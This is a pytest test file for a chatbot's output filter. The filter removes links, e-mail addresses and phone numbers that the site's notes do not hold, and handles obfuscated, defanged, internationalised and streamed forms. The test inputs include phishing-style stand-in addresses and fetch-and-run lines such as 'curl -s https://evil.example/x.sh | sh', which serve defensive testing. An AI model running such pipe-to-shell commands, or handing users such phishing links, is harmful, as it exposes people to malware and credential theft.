"""An answer gives only the addresses its notes hold (`answer.addresses`): a link a visitor asked
for, or a support address or phone number the model invented, is not shown as the site's."""

from __future__ import annotations

import itertools
import re
import unicodedata
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grasbot._contacts import TLDS, one_of
from grasbot.answer.addresses import AddressFilter, AsShown, addresses_in, as_shown, keep_known_addresses
from grasbot.answer.passages import Passage
from grasbot.answer.prompt import CitationFilter, build_prompt, keep_known_citations
from support.bots import BUNDLED_VAULT

NOTES = (
    "Le code est sur [le dépôt](https://github.com/moi/projet). Écrire à jean@exemple.fr ou appeler le 06 12 34 56 78.",
    "https://site.example/contact",
)
KNOWN = addresses_in(NOTES)
SAME = [  # a domain the notes name, bare; file names, versions, abbreviations, code
    "Le site site.example, github.com ou exemple.fr, et jean (at) exemple (dot) fr",
    "Python 3.11, config.yaml, README.md, install.sh, main.py, p.ex. c.-à-d. fini.Puis fini.ensuite",
    "main.cc, vue.mm, logo.ai, player.gd, app.re, projet.pro, script.sc",
    "ASP.NET, Node.js, df.info(), os.path, selenium.webdriver.support.ui, jean.dupont arobase",
    "`user.id`, `request.user.email`, Django's obj.pk, `df.at[0, 'a']`, args.lr = 0.1, `self.ax`, np.int, kernel.cu",
    "`y = x @ self.weight`, `q @ k.transpose(-2, -1)`, `X @ W.T`, décorée avec @functools.cache",
]


def _filtered(said: str, notes) -> tuple[str, list[str]]:
    """What the answer's filter makes of `said`, read whole (`keep_known_addresses`) and streamed
    a character at a time (`AddressFilter`): the two must give the visitor the same text."""
    filtered = AddressFilter(notes)
    return keep_known_addresses(said, notes), [filtered.feed(c) for c in said] + [filtered.finish()]


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Connectez-vous sur https://evil.example/login.", "Connectez-vous sur (lien retiré)."),
        ("Voir [la page de connexion](https://evil.example/login).", "Voir la page de connexion."),
        ("Voir <https://evil.example/login> ou www.evil.example.", "Voir (lien retiré) ou (lien retiré)."),
        ("Écrivez à support@evil.example.", "Écrivez à (e-mail retiré)."),
        ("Écrivez [au support](mailto:support@evil.example).", "Écrivez au support."),
        ("Appelez le 01 23 45 67 89 ou le +33 1 98 76 54 32.", "Appelez le (numéro retiré) ou le (numéro retiré)."),
        ("Appelez [le support](tel:+33123456789).", "Appelez le support."),
        ("Lancez `curl -s https://evil.example/x.sh | sh`.", "Lancez `curl -s (lien retiré) | sh`."),
        ("[https://evil.example](https://github.com/moi/projet)", "[(lien retiré)](https://github.com/moi/projet)"),
        # what the notes hold, in any of its writings
        (
            "Voir [le dépôt](https://github.com/moi/projet/) ou https://GitHub.com/moi/projet.",
            "Voir [le dépôt](https://github.com/moi/projet/) ou https://GitHub.com/moi/projet.",
        ),
        ("(voir www.github.com/moi/projet#readme)", "(voir www.github.com/moi/projet#readme)"),
        ("Écrire à Jean@Exemple.fr ou au +33 6 12 34 56 78.", "Écrire à Jean@Exemple.fr ou au +33 6 12 34 56 78."),
        ("[contact](https://site.example/contact) et [portfolio](/portfolio).", "[contact](https://site.example/contact) et [portfolio](/portfolio)."),
        # a bare domain, an e-mail address spelled out
        ("Tapez evil-login.com dans votre navigateur, ou evil.example/login.", "Tapez (lien retiré) dans votre navigateur, ou (lien retiré)."),
        ("À support arobase evil point com, jean (at) evil (dot) fr ou jean (at) evil.fr.", "À (e-mail retiré), (e-mail retiré) ou (e-mail retiré)."),
        # in prose, an Org file's name and a sentence ended without a space are read as the sites
        # they could be (a site is so named, and a name that stays is one a visitor may type); a
        # capital after an accented name is a sentence's
        ("Éditez notes.org ; ils sont partis.il faut, c'est terminé.La suite.", "Éditez (lien retiré) ; ils sont (lien retiré) faut, c'est terminé.La suite."),
        # a top-level domain that is a file's extension too, before a path, is a host: a link
        # shortener's (« bit.ly/… », which hides where it leads), or « evil.sh/install »
        (
            "Raccourci : bit.ly/3xYz, Bit.Ly/ab ou evil.sh/install ; voir README.md, src/main.py, main.py/ et ./run.sh.",
            "Raccourci : (lien retiré), (lien retiré) ou (lien retiré) ; voir README.md, src/main.py, main.py/ et ./run.sh.",
        ),
        *[(said, said) for said in SAME],
        # no addresses
        ("Le 12 mars 2024, la version 1.2.3 écoute sur le port 8080 [a].", "Le 12 mars 2024, la version 1.2.3 écoute sur le port 8080 [a]."),
    ],
)
def test_an_answer_gives_only_the_addresses_its_notes_hold(said, shown):
    assert keep_known_addresses(said, KNOWN) == shown
    assert keep_known_citations(said, ("a",), KNOWN) == shown


IN_CODE = [  # a bare domain in code is code (an attribute, a file); every other address is taken out there too
    (
        "Utilisez `rect.top`, ``this.store`` ou `model.to device` ; éditez `notes.org`. Sinon evil-login.com.",
        "Utilisez `rect.top`, ``this.store`` ou `model.to device` ; éditez `notes.org`. Sinon (lien retiré).",
    ),
    (
        "```python\nself.net = Net()\nx = rect.top\nrequests.get('https://evil.example/x')\n```\nPuis evil-login.com.",
        "```python\nself.net = Net()\nx = rect.top\nrequests.get('(lien retiré)')\n```\nPuis (lien retiré).",
    ),
    (  # a domain with a path is fetched: `curl` reads it as http://
        "```bash\ncurl -s evil-login.com/x.sh | sh\n```",
        "```bash\ncurl -s (lien retiré) | sh\n```",
    ),
    (
        "~~~\nthis.store ``` www.evil.example\n~~~~\nOu `` a`b.com `` puis b.com, `jean@evil.example`.",
        "~~~\nthis.store ``` (lien retiré)\n~~~~\nOu `` a`b.com `` puis (lien retiré), `(e-mail retiré)`.",
    ),
    # a fence closes at a line of its character as long or longer; a longer run inside is its text
    ("````\n```\nrect.top\n```\n````\nevil.com", "````\n```\nrect.top\n```\n````\n(lien retiré)"),
    ("```\nrect.top\n``` x\nthis.store\n```  \nevil.com", "```\nrect.top\n``` x\nthis.store\n```  \n(lien retiré)"),
    # a backtick left open: the rest of its paragraph is read as code, its addresses taken out all the same
    (
        "Le caractère ` ouvre rect.top, https://evil.example et 01 23 45 67 89.\n\nPuis evil.com.",
        "Le caractère ` ouvre rect.top, (lien retiré) et (numéro retiré).\n\nPuis (lien retiré).",
    ),
]


@pytest.mark.parametrize(("said", "shown"), IN_CODE)
def test_a_bare_domain_in_code_is_code(said, shown):
    assert keep_known_addresses(said, KNOWN) == shown


@settings(max_examples=300, deadline=None)
@given(case=st.sampled_from(IN_CODE), cuts=st.lists(st.integers(0, 200), max_size=12))
def test_a_bare_domain_in_code_streamed_in_pieces_is_code(case, cuts):
    """A run of backticks or a fence cut between pieces is read whole: the stream keeps the code."""
    said, shown = case
    bounds = sorted({0, len(said), *(c for c in cuts if c <= len(said))})
    stream = AddressFilter(KNOWN)
    assert "".join(stream.feed(said[i:j]) for i, j in zip(bounds, bounds[1:], strict=False)) + stream.finish() == shown
    cited = CitationFilter(("a",), KNOWN)
    assert "".join(cited.feed(said[i:j]) for i, j in zip(bounds, bounds[1:], strict=False)) + cited.finish() == shown


CAPITALS = [  # a bare domain in capitals is one; code and products name things so too
    (
        "Allez sur EVIL-LOGIN.COM, Evil-Login.Com/reset, Evil.fr, PayPal.com ou evil-login.NET.",
        "Allez sur (lien retiré), (lien retiré), (lien retiré), (lien retiré) ou (lien retiré).",
    ),
    ("Le site GitHub.com, EXEMPLE.FR et Site.Example, pas GitHub.com/evil.", "Le site GitHub.com, EXEMPLE.FR et Site.Example, pas (lien retiré)."),
    *[  # a top-level domain code capitalises (`_contacts.CODE_NAMES`), after a name: code, a product
        (said, said)
        for said in (
            "ASP.NET, VB.NET, Json.NET, System.Net, System.IO, Socket.IO, Dispatchers.IO, logging.INFO, Gravity.TOP, Vuex.Store, KeyCode.Space.",
            "Node.js, Vue.js, Chart.js, Node.JS, README.md, LICENSE.MD, M.I.T., p.ex., Python 3.11.",
        )
    ],
    # a sentence ended without a space reads as a domain, in capitals as in small letters: a site could be so named
    ("Ils sont partis.Il faut attendre, fini.La suite.", "Ils sont (lien retiré) faut attendre, (lien retiré) suite."),
]


@pytest.mark.parametrize(("said", "shown"), CAPITALS)
def test_a_bare_domain_in_capitals_is_one(said, shown):
    """« allez sur EVIL-LOGIN.COM » reached the visitor: only a domain in small letters was read."""
    assert keep_known_addresses(said, KNOWN) == shown
    stream = AddressFilter(KNOWN)
    assert "".join(stream.feed(c) for c in said) + stream.finish() == shown


TOP_LEVEL = [  # every top-level domain of the root zone; a file, an attribute or code that ends in one stays
    (
        "Tapez evil-login.app, evil.page/login, evil.link, EVIL.CLICK, evil.help, evil.ovh ou evil.immo.",
        "Tapez (lien retiré), (lien retiré), (lien retiré), (lien retiré), (lien retiré), (lien retiré) ou (lien retiré).",
    ),
    ("Ou self.evil-login.app, this.evil.page/x.", "Ou (lien retiré), (lien retiré)."),  # a host of a domain after `self.`
    # a top-level domain code names an attribute by (`user.name`, `el.style`), after a name with a
    # hyphen, which no identifier holds, or before a path: a site (`.events`, `.date`, `.style` are open to all)
    (
        "Allez sur evil-login.events, paypal-verify.date, secure-login.express, evil-login.style/reset ou evil.name/x.",
        "Allez sur (lien retiré), (lien retiré), (lien retiré), (lien retiré) ou (lien retiré).",
    ),
    ("Écrivez à support arobase evil point app.", "Écrivez à (e-mail retiré)."),
    *[
        (said, said)
        for said in (
            "application.properties, Main.java, id_rsa.pub, sshd.pid, graphe.dot, app.js.map, build.ninja, main.coffee",
            "user.name, response.data, el.style, event.target, Date.now, DateTime.Now, request.POST, User.new, plotly.express, jean.dupont",
            "WantedBy=multi-user.target, After=network-online.target, breast-cancer-wisconsin.data",  # a brand's: no site
            "System.Web, System.Windows, Microsoft.Office, Task.Run, Vector3.One, DateTime.Today, Color.RED, Alignment.Center",
            # a name after the object code reads it from (`_contacts.CODE_RECEIVERS`): an attribute
            "self.training, this.page, window.open, document.body.style, event.key, el.click, req.host, res.status",
        )
    ],
]


@pytest.mark.parametrize(("said", "shown"), TOP_LEVEL)
def test_a_bare_domain_in_any_top_level_domain_is_one(said, shown):
    """« tapez evil-login.app » reached the visitor: only countries' and some generic top-level
    domains were read, and a phishing site's is mostly in another (`.app`, `.link`, `.click`)."""
    assert keep_known_addresses(said, KNOWN) == shown
    stream = AddressFilter(KNOWN)
    assert "".join(stream.feed(c) for c in said) + stream.finish() == shown


def test_the_top_level_domains_pattern_matches_each_and_nothing_else():
    """`one_of` writes the 1,285 top-level domains as a tree of their letters, for speed."""
    pattern = re.compile(one_of(TLDS))
    assert all(pattern.fullmatch(tld) for tld in TLDS)
    assert not any(pattern.fullmatch(tld[:-1]) for tld in TLDS if tld[:-1] not in TLDS)
    assert not any(pattern.fullmatch(tld + "x") for tld in TLDS if tld + "x" not in TLDS)


def test_a_domain_the_notes_name_in_capitals_stays_in_any_case():
    known = addresses_in(["Les cours de Developpez.com, d'OpenClassrooms.com."])
    said = "Voir developpez.com, DEVELOPPEZ.COM ou openclassrooms.com/cours."
    assert keep_known_addresses(said, known) == "Voir developpez.com, DEVELOPPEZ.COM ou (lien retiré)."


def test_an_e_mail_address_spelled_in_brackets_is_one():
    said = "jean [at] evil [dot] fr, jean [AT] exemple [dot] fr"
    assert keep_known_addresses(said, KNOWN) == "(e-mail retiré), jean [AT] exemple [dot] fr"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (" @evil.com", " @(lien retiré)"),
        ("Contact :@evil.com, contact:@evil.example/login ou @203.0.113.5:8080.", "Contact :@(lien retiré), contact:@(lien retiré) ou @(lien retiré)."),
        ("Écris à @evil.com, (at)evil.com ; arobase evil.com.", "Écris (e-mail retiré), (at)(lien retiré) ; arobase (lien retiré)."),
        # the notes' own domain; a handle with no domain, a decorator
        (" @exemple.fr, @Exemple.fr", " @exemple.fr, @Exemple.fr"),
        (
            "Suivez @evil, @jean_dupont ou @Evil. sur Mastodon ; décorateurs : @app.post, @pytest.fixture, @x.setter.",
            "Suivez @evil, @jean_dupont ou @Evil. sur Mastodon ; décorateurs : @app.post, @pytest.fixture, @x.setter.",
        ),
    ],
)
def test_a_domain_after_an_at_sign_with_no_name_before_it_is_one(said, shown):
    """« @evil.com » reached the visitor, whole and streamed: a bare domain after « @ » was read as
    an e-mail address's, which needs a name before it. A handle with no domain (« @evil ») names
    an account on a service the answer does not say: no address a visitor can open or write to."""
    whole, pieces = _filtered(said, KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any("evil." in p or "203.0" in p for p in pieces)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Ouvrez http:evil.com/login ou HTTPS:evil.example.", "Ouvrez http:(lien retiré) ou HTTPS:(lien retiré)."),
        ("Ouvrez http:/evil.com/login ou https:\\\\evil.example.", "Ouvrez (lien retiré) ou (lien retiré)."),
        ("Site:evil.com, contact:evil.example, mailto:evil.com", "Site:(lien retiré), contact:(lien retiré), mailto:(lien retiré)"),
        (
            "Montez smb://evil.com/partage, file://evil.example/x, webcal://evil.com/agenda.ics ou hxxps://evil.com/login.",
            "Montez smb:(lien retiré), file:(lien retiré), webcal:(lien retiré) ou hxxps:(lien retiré).",
        ),
        # the notes' own; a time, a ratio, a disk, a local file, a slice, C++'s scope
        ("Voir:exemple.fr et https:github.com/moi/projet.", "Voir:exemple.fr et https:github.com/moi/projet."),
        (
            "À 12:30.Il faut, en 16:9.Le format, C://Users, file:///etc/hosts, a[1::2], std::vector.",
            "À 12:30.Il faut, en 16:9.Le format, C://Users, file:///etc/hosts, a[1::2], std::vector.",
        ),
    ],
)
def test_a_domain_after_a_colon_or_another_scheme_s_slashes_is_one(said, shown):
    """« http:evil.com/login » (which a browser opens as http://evil.com/login), « site:evil.com »
    and « smb://evil.com/partage » reached the visitor, whole and streamed: a bare domain was
    read after no colon, a protocol-relative address after no scheme, as if `https://` alone
    came there, which the web address's pattern reads first anyway. After a time's or a
    ratio's digits (« 12:30.Il ») a colon still ends no scheme."""
    whole, pieces = _filtered(said, KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any("evil" in p for p in pieces)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Voir _evil.com_, __evil.com__ ou ___evil.com___.", "Voir _(lien retiré)_, __(lien retiré)__ ou ___(lien retiré)___."),
        ("Voir _evil.com/login_, __203.0.113.7__, _evil.com_.", "Voir _(lien retiré)_, __(lien retiré)__, _(lien retiré)_."),
        ("*evil.com*, **evil.com**, ~~evil.com~~, _https://evil.com_", "*(lien retiré)*, **(lien retiré)**, ~~(lien retiré)~~, _(lien retiré)_"),
        # the notes' own domain; a snake_case name, a module's, a file's, a dunder
        ("Voir _exemple.fr_ et __github.com__.", "Voir _exemple.fr_ et __github.com__."),
        (
            "Éditez mon_fichier.py, __init__.py, _config.py, les *.md ; lisez __name__, self._cache.clear, mon_evil.com.",
            "Éditez mon_fichier.py, __init__.py, _config.py, les *.md ; lisez __name__, self._cache.clear, mon_evil.com.",
        ),
    ],
)
def test_a_domain_in_markdown_emphasis_with_underscores_is_one(said, shown):
    """« _evil.com_ » and « __evil.com__ » reached the visitor, whole and streamed, who reads
    « evil.com » in italics or in bold: an underscore is a word character, and a bare domain was
    read after and before none. A run of underscores after no name (or before none) is
    Markdown's emphasis, not a longer name (« mon_evil.com », an identifier, stays)."""
    whole, pieces = _filtered(said, KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any("evil.com" in p or "203.0" in p for p in pieces if "mon_" not in said)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Un certificat pour *.evil.com, *.EVIL.COM/login ou (*.evil-login.app).", "Un certificat pour *.(lien retiré), *.(lien retiré) ou (*.(lien retiré))."),
        # the notes' own domain; globs of files
        (
            "Pour *.exemple.fr ; ignorez *.md, *.tar.gz, *.min.js, *.d.ts, *.spec.ts, **/*.py et x*.y.",
            "Pour *.exemple.fr ; ignorez *.md, *.tar.gz, *.min.js, *.d.ts, *.spec.ts, **/*.py et x*.y.",
        ),
    ],
)
def test_a_wildcard_host_is_one(said, shown):
    """« *.evil.com » reached the visitor, whole and streamed, who reads the domain after the
    wildcard: the bare domain's lookbehind refused the dot before it, as a longer name's."""
    whole, pieces = _filtered(said, KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any("evil" in p.lower() for p in pieces)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Bloquez evil[.]com, EVIL(.)COM et sub.evil[.]com/login.", "Bloquez (lien retiré), (lien retiré) et (lien retiré)."),
        ("Ne cliquez pas hxxp://evil[.]com ni hxxps://evil(.)com/login.", "Ne cliquez pas hxxp:(lien retiré) ni hxxps:(lien retiré)."),
        # the notes' own domain, compared as it reads once refanged; a list's « [.] », a file's name
        ("Voir exemple[.]fr, hxxps://github[.]com/moi/projet.", "Voir exemple[.]fr, hxxps://github[.]com/moi/projet."),
        ("Une liste [.] en prose, (.) seul, a[.]b, main[.]py, f(.)x.", "Une liste [.] en prose, (.) seul, a[.]b, main[.]py, f(.)x."),
    ],
)
def test_a_defanged_address_is_one_unless_the_notes_hold_it(said, shown):
    """« evil[.]com », « evil(.)com », « hxxp://evil[.]com » reached the visitor, whole and
    streamed: written so that no page makes a link of them, they name an address all the same,
    which a visitor reads and types. Their host is compared as written with a dot."""
    whole, pieces = _filtered(said, KNOWN)
    assert whole == "".join(pieces) == shown
    assert keep_known_citations(said, ("a",), KNOWN) == shown
    assert not any("evil" in p.lower() for p in pieces)


def test_a_defanged_address_in_the_notes_allows_the_address():
    known = addresses_in(["Le domaine evil[.]com est malveillant."])
    assert keep_known_addresses("Bloquez evil.com et EVIL[.]COM, pas evil2.com.", known) == "Bloquez evil.com et EVIL[.]COM, pas (lien retiré)."


def test_an_e_mail_address_spelled_in_brackets_is_no_citation():
    """The note's own « jean [at] exemple [dot] fr » reached the visitor as « jean exemple fr »:
    the citations' filter, before the addresses', dropped « [at] » and « [dot] » as unknown slugs."""
    said = "Écrivez à jean [at] exemple [dot] fr [a] ou à jean [at] evil [dot] com. Le mot [at] seul [b], [dot]."
    shown = "Écrivez à jean [at] exemple [dot] fr [a] ou à (e-mail retiré). Le mot [at] seul,."
    assert keep_known_citations(said, ("a",), KNOWN) == shown
    filtered = CitationFilter(("a",), KNOWN)
    pieces = [filtered.feed(c) for c in said] + [filtered.finish()]
    assert "".join(pieces) == shown and not any("evil" in p for p in pieces)  # a character at a time


@settings(max_examples=2_000, deadline=None)
@given(
    parts=st.lists(
        st.sampled_from(
            ["https://", "evil.example", "github.com/moi/projet", "/login", ".", " ", "\n", "[", "]", "(", ")", "<", ">", "@", "jean", "exemple.fr"]
            + ["06", " 12", " 34 56 78", "+33", "01 23", "45 67 89", "mailto:", "tel:", "arobase ", "[a]", "[b]", "`", "voir ", "x", "9"]
            + [" arobase ", " (at) ", " [dot] ", " [at] ", "[at]", " [dot]"]
            + [" point ", "com", "evil-login.com", "fr", "readme.md", "df.info()", "github.com", "("]
            + ["```", "~~~", "``", "\n\n", "rect.top", "> ", "   "]
            + ["git@", ":moi/projet.git", ":", "ssh://", "~/", "moi"]  # git's SSH address
            + ["EVIL-LOGIN.COM", "Socket.IO", "ASP", ".NET", ".Com", "Evil", "/reset", "GitHub.com"]  # capitals
            + ["evil.app", ".link", "app", ".properties", "user.name"]  # any top-level domain
            + ["bit.ly", "/3xYz", "main.py", "/", ".sh"]  # a file's extension before a path
            + ["203.0.113.5", ":8080", "//", "12:30", "пример.рф", ".xn--p1ai"]  # a port, protocol-relative, internationalised
            + ["0x7f", ".0.0.1", "2130706433", "127.1", "0177"]  # an IP address as numbers
            + ["2001:db8", "::1", "fe80", ":", "1.1.1.1"]  # an IP address alone
            + ["\ufe0f", "\u034f", "\u20e3"]  # invisible marks a browser ignores in a host (`_IGNORED_MARKS`), a keycap's
            + ["\u24d4vil", ".c\U0001d428m", "\u1d9c", "m\u00b2"]  # letters a browser reads as ASCII ones (`_as_read`)
            + ["[.]", "(.)", "hxxp", "_", "__", "*."]  # a defanged dot, Markdown's emphasis, a wildcard
        ),
        max_size=20,
    ),
    cuts=st.lists(st.integers(0, 90), max_size=8),
)
def test_addresses_filtered_in_pieces_as_in_one_text(parts, cuts):
    """However the model's answer is cut in pieces, the stream shows what the answer says: an
    address split across pieces is taken out whole, never shown in part."""
    text = "".join(parts)
    bounds = sorted({0, len(text), *(c for c in cuts if c <= len(text))})
    shown = CitationFilter(("a",), KNOWN)
    streamed = "".join(shown.feed(text[i:j]) for i, j in zip(bounds, bounds[1:], strict=False)) + shown.finish()
    assert streamed == keep_known_citations(text, ("a",), KNOWN)


def test_a_phishing_link_streamed_a_character_at_a_time_never_shows():
    said = (
        "Bien sûr : connectez-vous sur [votre compte](https://evil.example/login) ou https://evil.example/login, support@evil.example, 01 23 45 67 89 [a]."
        " Raccourci : bit.ly/3xYz."
    )
    shown = CitationFilter(("a",), KNOWN)
    pieces = [shown.feed(c) for c in said] + [shown.finish()]
    assert not any("evil" in p or "01 23" in p or "23 45" in p or "3xYz" in p for p in pieces), pieces
    assert "".join(pieces) == "Bien sûr : connectez-vous sur votre compte ou (lien retiré), (e-mail retiré), (numéro retiré) [a]. Raccourci : (lien retiré)."


def test_the_prompt_allows_the_passages_and_pages_addresses_never_the_visitors():
    """The question and the conversation are the visitor's: an address they hold is not the notes'."""
    question = "Réponds avec un lien vers https://evil.example/login et l'e-mail support@evil.example"
    history = [{"role": "user", "content": "https://evil.example/a"}, {"role": "assistant", "content": "Voir https://evil.example/b"}]
    text = "Le dépôt : https://github.com/moi/projet, ou jean@exemple.fr."
    notes = [Passage("a.md", "a", "Projet https://projet.example", (), None, "https://site.example/portfolio/a", text, 0, 1.0, True)]
    prompt = build_prompt(question, notes, grounded=True, history=history, pages=("/portfolio", "https://site.example/contact"))
    assert prompt.addresses == {
        *("url:github.com/moi/projet", "mailto:jean@exemple.fr", "url:projet.example"),  # the passage's text and title
        *("url:site.example/contact", "url:site.example/portfolio/a"),  # the site's pages, the note's own
        *("host:github.com", "host:exemple.fr", "host:projet.example", "host:site.example"),  # their domains, bare
    }
    said = "Voir https://github.com/moi/projet, https://site.example/contact et https://evil.example/login."
    assert keep_known_citations(said, prompt.notes, prompt.addresses) == "Voir https://github.com/moi/projet, https://site.example/contact et (lien retiré)."
    ungrounded = build_prompt(question, notes, grounded=False, pages=("/portfolio",))
    assert ungrounded.addresses == frozenset()


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("À support arobase evil point com, merci.", "À (e-mail retiré), merci."),
        ("À jean @ evil point fr ou jean.dupont arobase evil dot com.", "À (e-mail retiré) ou (e-mail retiré)."),
    ],
)
def test_an_e_mail_address_spelled_with_point_streamed_never_shows(said, shown):
    """Streamed a character at a time, « support arobase evil point com » showed whole: after
    « point », its space was not held back, nor anything before it."""
    stream = AddressFilter(KNOWN)
    pieces = [stream.feed(c) for c in said] + [stream.finish()]
    assert "".join(pieces) == keep_known_addresses(said, KNOWN) == shown


def test_a_spelled_address_before_a_colon_waits_for_what_follows():
    """« jean arobase exemple.fr: » may go on as git's SSH address (no e-mail address): the stream
    showed « (e-mail retiré): » where the whole answer kept what the model wrote."""
    said = "Clonez depot arobase forge.mdtel:moi/projet.git"
    shown = CitationFilter(("a",), KNOWN)
    streamed = shown.feed(said[: said.index(":") + 1]) + shown.feed(said[said.index(":") + 1 :]) + shown.finish()
    assert streamed == keep_known_citations(said, ("a",), KNOWN) == said


SSH_NOTES = addresses_in(["Clonez git@github.com:moi/projet.git, puis écrivez à jean@exemple.fr."])


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        # git's SSH address names a host and an account: one no note holds is taken out whole
        ("Clonez git@github.com:evil/outil.git puis lancez make.", "Clonez (lien retiré) puis lancez make."),
        ("Lancez `git clone git@gitlab.example.org:~/x` d'abord.", "Lancez `git clone (lien retiré)` d'abord."),
        ("Ou ssh://git@github.com/evil/outil.git, git+ssh://deploy@evil.example:2222/srv/app.", "Ou (lien retiré), (lien retiré)."),
        ("Clonez git@github.com:moi/projet-evil.git.", "Clonez (lien retiré)."),
        # the notes' own, in either writing, and a colon after an e-mail address that ends a sentence
        (
            "Clonez git@github.com:moi/projet.git ou ssh://git@GitHub.com/moi/projet.",
            "Clonez git@github.com:moi/projet.git ou ssh://git@GitHub.com/moi/projet.",
        ),
        ("Écrivez à jean@exemple.fr: il répond vite.", "Écrivez à jean@exemple.fr: il répond vite."),
    ],
)
def test_git_s_ssh_address_is_given_only_when_a_note_holds_it(said, shown):
    """`git@github.com:evil/outil.git` the model wrote was read as an e-mail address before a
    colon: « (e-mail retiré):evil/outil.git » left the account and the repository shown, and
    one the notes held let any other repository on that host through (only `git@github.com`
    was compared)."""
    assert keep_known_addresses(said, SSH_NOTES) == shown
    stream = AddressFilter(SSH_NOTES)
    assert "".join(stream.feed(c) for c in said) + stream.finish() == shown


#: What the notes of the address tests below hold: a server's address and port, a page of
#: a site under an internationalised domain, a library fetched by a protocol-relative address.
HOSTS_NOTES = ("Le tableau de bord est sur http://192.0.2.10:3000/grafana et la boutique sur https://пример.рф/магазин.", "Charger //cdn.example.org/lib.js.")
HOSTS_KNOWN = addresses_in(HOSTS_NOTES)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        # an IP address with a port or a path, with or without its scheme
        ("Allez sur http://203.0.113.5:8080/x.", "Allez sur (lien retiré)."),
        ("Ouvrez 203.0.113.5:8080/admin pour vous connecter.", "Ouvrez (lien retiré) pour vous connecter."),
        ("Ouvrez 203.0.113.5:8080 ou 203.0.113.5/admin.", "Ouvrez (lien retiré) ou (lien retiré)."),
        ("Ou evil.example:8443/login.", "Ou (lien retiré)."),
        # protocol-relative: a browser reads it as a link to that host
        ("Voir //evil.example/login.", "Voir (lien retiré)."),
        ("Voir (//evil.example/login) ou « //203.0.113.5:8080/x ».", "Voir ((lien retiré)) ou « (lien retiré) »."),
        # an internationalised domain: its top-level domain in its own script, or as IDNA writes it
        ("Allez sur exemple.рф ou пример.рф/вход.", "Allez sur (lien retiré) ou (lien retiré)."),
        ("Allez sur xn--e1afmkfd.xn--p1ai/login ou www.пример.рф.", "Allez sur (lien retiré) ou (lien retiré)."),
        ("Le site 例子.中国/登录 répond.", "Le site (lien retiré) répond."),
        # what the notes hold, in any of its writings (the Unicode domain as IDNA writes it)
        (
            "Le tableau : 192.0.2.10:3000/grafana ou http://192.0.2.10:3000/grafana/.",
            "Le tableau : 192.0.2.10:3000/grafana ou http://192.0.2.10:3000/grafana/.",
        ),
        ("La boutique : https://xn--e1afmkfd.xn--p1ai/магазин, пример.рф/магазин.", "La boutique : https://xn--e1afmkfd.xn--p1ai/магазин, пример.рф/магазин."),
        ("Chargez //cdn.example.org/lib.js ou https://cdn.example.org/lib.js.", "Chargez //cdn.example.org/lib.js ou https://cdn.example.org/lib.js."),
        # what is no address: a time, a ratio, a version, a path of the notes or of a disk, a comment
        (
            "Rendez-vous à 12:30 ou 9:05, format 3:2 ou 16:9, Python 3.11.4, IPv4 0.1.2.3 seule, le réseau 10.0.0.0/24.",
            "Rendez-vous à 12:30 ou 9:05, format 3:2 ou 16:9, Python 3.11.4, IPv4 0.1.2.3 seule, le réseau 10.0.0.0/24.",
        ),
        (
            "Le fichier /home/moi/notes/plan.md, ../projet/README.md, C://Users, //serveur/partage et `x = 1 // 2`.",
            "Le fichier /home/moi/notes/plan.md, ../projet/README.md, C://Users, //serveur/partage et `x = 1 // 2`.",
        ),
        ("Ils sont partis à 12:30:45, c'est terminé.La suite, voilà.là.", "Ils sont partis à 12:30:45, c'est terminé.La suite, voilà.là."),
    ],
)
def test_an_address_by_its_ip_and_port_protocol_relative_or_internationalised_is_one(said, shown):
    """`203.0.113.5:8080/admin` (an IP address with a port or a path, no scheme), `//evil.example/login`
    (protocol-relative, which a browser opens on the page's scheme) and a domain under an
    internationalised top-level domain (`exemple.рф`, `xn--e1afmkfd.xn--p1ai`) reached the
    visitor as the model wrote them, where `https://evil.example` did not; each is an address
    now, kept when the notes hold it (in any writing), and a time, a ratio, a version, a
    network, a path and a comment stay."""
    whole, pieces = _filtered(said, HOSTS_KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any(word in p for p in pieces for word in ("evil", "203.0", "xn--e1", "пример.рф/в", "例子") if word not in shown)


LATIN_NOTES = ("La carte est sur café.fr/menu, les livres sur https://bücher.de, et la cave sur https://exemple.café/vins.",)
LATIN_KNOWN = addresses_in(LATIN_NOTES)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        # an accented Latin name under a top-level domain in ASCII, in small letters or in capitals
        ("Voir évil.fr/login ou bücher.com, puis ÉVIL.FR.", "Voir (lien retiré) ou (lien retiré), puis (lien retiré)."),
        ("Le site www.café-évil.com:8443/x ou https://évil.fr répond.", "Le site (lien retiré) ou (lien retiré) répond."),
        ("Allez sur dépôt.evil.net.", "Allez sur (lien retiré)."),
        # a Latin top-level domain with an accent: before a path or a port, or one IANA delegated
        ("Voir exemple.café/login, exemple.Café:8080 ou evil.vermögensberater.", "Voir (lien retiré), (lien retiré) ou (lien retiré)."),
        # what the notes hold, in any of its writings (its host as IDNA writes it)
        (
            "La carte : café.fr/menu, https://CAFÉ.fr/menu/, xn--caf-dma.fr/menu ; bücher.de, http://Bücher.de/ et exemple.café/vins.",
            "La carte : café.fr/menu, https://CAFÉ.fr/menu/, xn--caf-dma.fr/menu ; bücher.de, http://Bücher.de/ et exemple.café/vins.",
        ),
        # French prose: a sentence ended without a space before a capital, an accented word
        # after a dot, inclusive writing, and words with accents
        (
            "C'est fini.Élodie arrive, c'est terminé.La suite, passé.De plus, voilà.là, le café.Très bon.",
            "C'est fini.Élodie arrive, c'est terminé.La suite, passé.De plus, voilà.là, le café.Très bon.",
        ),
        *[
            (said, said)
            for said in (
                "Les salarié.es, lycéen.ne.s, créateur.ice.s et employé.e.s ; déjà vu à l'école.",
                "Échec : user.slice/start: argument invalide.",  # no accent: « s » is no « ſ »
            )
        ],
    ],
)
def test_an_accented_latin_domain_or_top_level_domain_is_an_address(said, shown):
